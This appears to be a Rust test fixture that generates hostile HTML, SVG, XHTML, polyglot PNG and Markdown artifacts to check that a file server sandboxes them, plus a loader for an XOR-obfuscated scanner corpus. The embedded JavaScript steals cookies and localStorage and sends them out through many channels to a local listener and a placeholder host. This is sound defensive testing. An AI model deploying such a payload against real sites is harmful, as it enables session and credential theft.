//! Files that act in every way a page can, and a store that says of each that it may be shown.

use crate::application::Listener;
use acceptance::kiln::{Program, run};
use acceptance::places;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use std::fmt::Write as _;

/// The job that made them.
pub(crate) const ID: &str = "served-1";

/// One artifact, as the outcome tells of it.
#[derive(Debug)]
pub(crate) struct Sample {
    pub(crate) path: String,
    media: String,
    serve: &'static str,
    bytes: Vec<u8>,
    /// Whether it takes what it can where nothing keeps it from it.
    pub(crate) bites: bool,
}

impl Sample {
    /// Its address below the server's.
    pub(crate) fn url(&self) -> String {
        let mut url = format!("{ID}/");
        for byte in self.path.bytes() {
            write!(url, "%{byte:02X}").expect("a text takes it");
        }
        url
    }

    /// The address of the file itself, without the page around it.
    pub(crate) fn raw_url(&self) -> String {
        format!("{}?raw", self.url())
    }
}

pub(crate) fn as_released(path: &str, media: &str, serve: &'static str, bytes: Vec<u8>) -> Sample {
    Sample {
        path: path.to_owned(),
        media: media.to_owned(),
        serve,
        bytes,
        bites: false,
    }
}

/// A store with one job, whose outcome says that all of them are active and released.
pub(crate) fn shelf(samples: &[Sample]) -> tempfile::TempDir {
    let ran = run(&Program::bash("true"), &[]);
    let mut outcome: Value = ran.outcome.clone();
    let folder = places::scratch();
    let artifacts = folder.path().join("artifacts");
    std::fs::create_dir_all(&artifacts).expect("scratch");
    std::fs::create_dir(folder.path().join("results")).expect("scratch");
    let told = samples.iter().enumerate().map(|(at, sample)| {
        std::fs::write(artifacts.join(at.to_string()), &sample.bytes).expect("scratch");
        let digest = Sha256::digest(&sample.bytes);
        let sha256 = digest.iter().fold(String::new(), |mut hex, byte| {
            write!(hex, "{byte:02x}").expect("a text takes it");
            hex
        });
        json!({
            "path": sample.path, "bytes": sample.bytes.len(), "sha256": sha256,
            "media_type": sample.media, "state": "released", "verdict": "active",
            "findings": [], "serve": sample.serve, "object": format!("artifacts/{at}"),
        })
    });
    outcome["artifacts"] = told.collect();
    outcome["job_id"] = ID.into();
    let text = outcome.to_string();
    std::fs::write(folder.path().join(format!("results/{ID}.json")), text).expect("scratch");
    folder
}

/// A script that takes what the application has, and tells it to everybody by every way there is.
fn script(port: u16) -> String {
    let ways = r"
const taken = []; const get = (from) => { try { taken.push(from()); } catch (error) { } };
get(() => document.cookie); get(() => JSON.stringify(localStorage)); get(() => parent.document.cookie);
get(() => top.localStorage.session); get(() => opener.document.cookie);
get(() => { document.cookie = 'taken=1'; localStorage.setItem('taken', '1'); });
const at = 'HOST/?' + encodeURIComponent(taken.join());
const tries = [
  () => fetch(at, {mode: 'no-cors'}).catch(() => 0), () => fetch('//far.invalid/?' + taken, {mode: 'no-cors'}).catch(() => 0),
  () => { const it = new XMLHttpRequest(); it.open('GET', at); it.send(); },
  () => navigator.sendBeacon(at, taken), () => { new Image().src = at; },
  () => new WebSocket(at.replace('http', 'ws')), () => new EventSource(at), () => import(at).catch(() => 0),
  () => new Worker('data:,fetch(`' + at + '`)'), () => new Worker(URL.createObjectURL(new Blob(['fetch(`' + at + '`)']))),
  () => navigator.serviceWorker.register('/' + location.pathname), () => new Audio(at).play().catch(() => 0),
  () => { const it = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
          it.createDataChannel('x'); it.createOffer().then((offer) => it.setLocalDescription(offer)); },
  () => { const it = document.createElement('form'); it.action = at; it.method = 'post'; document.body.append(it); it.submit(); },
  () => { const it = document.createElement('a'); it.href = at; it.ping = at; it.target = '_blank'; document.body.append(it); it.click(); },
  () => { const it = document.createElement('a'); it.href = at; it.target = '_top'; document.body.append(it); it.click(); },
  () => window.open(at), () => parent.postMessage(taken, '*'), () => { parent.location = at; }, () => { top.location = at; },
  ...['script src', 'link href stylesheet', 'link href preload', 'link href preconnect', 'link href dns-prefetch', 'link href modulepreload', 'link href prefetch', 'link href icon', 'link href manifest',
      'iframe src', 'embed src', 'object data', 'video src', 'source src', 'track src'].map((words) => () => {
    const [name, attribute, rel] = words.split(' '); const it = document.createElement(name);
    if (rel) { it.rel = rel; it.as = 'script'; } it[attribute] = at; document.body.append(it); }),
  () => { const it = document.createElement('meta'); it.httpEquiv = 'refresh'; it.content = '0;url=' + at; document.head.append(it); },
  () => { const it = document.createElement('script'); it.type = 'speculationrules';
          it.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [at]}]}); document.head.append(it); },
  () => setTimeout(() => { location = at; }, 200),
];
for (const one of tries) { try { one(); } catch (error) { } }
";
    let host = format!("http://127.0.0.1:{port}");
    ways.replace("HOST", &host)
        .replace("PORT", &port.to_string())
}

/// What sends without a script.
fn still(port: u16) -> String {
    let at = format!("http://127.0.0.1:{port}/still");
    format!(
        "<meta http-equiv=refresh content='0;url={at}'><base href='{at}'>\
         <link rel=stylesheet href='{at}'><link rel=prefetch href='{at}'><link rel=preconnect href='{at}'><link rel=dns-prefetch href='{at}'>\
         <link rel=modulepreload href='{at}'><link rel=preload as=image href='{at}'>\
         <link rel=icon href='{at}'><style>@import '{at}'; @font-face {{ font-family: x; src: url('{at}') }} \
         body {{ font-family: x; background: url('{at}'); cursor: url('{at}'), auto }}</style>\
         <body background='{at}'>x<img src='{at}' srcset='{at} 2x'><video src='{at}' poster='{at}' autoplay></video>\
         <audio src='{at}' autoplay></audio><iframe src='{at}'></iframe><object data='{at}'></object><embed src='{at}'>\
         <input type=image src='{at}'><svg><image href='{at}'/><use href='{at}#x'/></svg>\
         <script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{at}\"]}}]}}</script>"
    )
}

/// One of each kind, made to bite.
pub(crate) fn by_hand(listener: &Listener) -> Vec<Sample> {
    let (script, still) = (script(listener.port), still(listener.port));
    let page =
        format!("<!DOCTYPE html><html><head></head><body>x<script>{script}</script></body></html>");
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"go()\"><script><![CDATA[const go = () => 0; {}]]></script></svg>",
        script
            .replace("document.body", "document.documentElement")
            .replace("document.head", "document.documentElement")
    );
    let xhtml = format!(
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head/><body><script><![CDATA[{script}]]></script></body></html>"
    );
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend_from_slice(page.as_bytes());
    let markdown = format!("# Report\n\n<img src=x onerror=\"{}\">\n{page}\n", "go()");
    let biting = |path, media, serve, bytes| Sample {
        bites: true,
        ..as_released(path, media, serve, bytes)
    };
    vec![
        biting("page.html", "text/html", "sandbox", page.clone().into()),
        biting("drawing.svg", "image/svg+xml", "sandbox", svg.into()),
        // Whoever believes such a word of an outcome is to be safe all the same.
        biting("inline.html", "text/html", "inline", page.clone().into()),
        biting("saved.html", "text/html", "attachment", page.clone().into()),
        biting(
            "page.xhtml",
            "application/xhtml+xml",
            "inline",
            xhtml.into(),
        ),
        as_released("still.html", "text/html", "sandbox", still.clone().into()),
        as_released("still-inline.html", "text/html", "inline", still.into()),
        as_released(
            "page.txt",
            "text/plain; charset=utf-8",
            "inline",
            page.clone().into(),
        ),
        as_released("page.png", "image/png", "inline", png.clone()),
        as_released("unknown.bin", "application/octet-stream", "inline", png),
        as_released(
            "report.md",
            "text/markdown",
            "inline",
            markdown.clone().into(),
        ),
        as_released(
            "report-2.md",
            "text/markdown",
            "attachment",
            markdown.into(),
        ),
        as_released("nothing.json", "application/json", "inline", page.into()),
    ]
}

/// Every sample of the scanner's corpus that a browser might show, as the worst mistake would have it served.
pub(crate) fn corpus() -> Vec<Sample> {
    let folder = places::repository().join("artifact-scanner/corpus");
    let labels = std::fs::read_to_string(folder.join("labels.tsv")).expect("the corpus");
    let mut samples = Vec::new();
    for (at, line) in labels.lines().skip(1).enumerate() {
        let name = line.split('\t').next().unwrap_or_default();
        let ending = name.rsplit('.').next().unwrap_or_default();
        let (media, serve) = match ending {
            // A notebook or a text may be taken for a page.
            "html" | "htm" | "ipynb" | "md" | "txt" => ("text/html", "sandbox"),
            "svg" => ("image/svg+xml", "sandbox"),
            "xml" => ("application/xml", "inline"),
            "pdf" => ("application/pdf", "inline"),
            "png" | "jpg" | "gif" => ("image/png", "inline"),
            _ => continue,
        };
        let bytes = std::fs::read(folder.join(format!("samples/{at:04}.x"))).expect("a sample");
        let bytes = bytes.iter().map(|byte| byte ^ 0xa5).collect();
        samples.push(as_released(&format!("{at}.{ending}"), media, serve, bytes));
    }
    samples
}
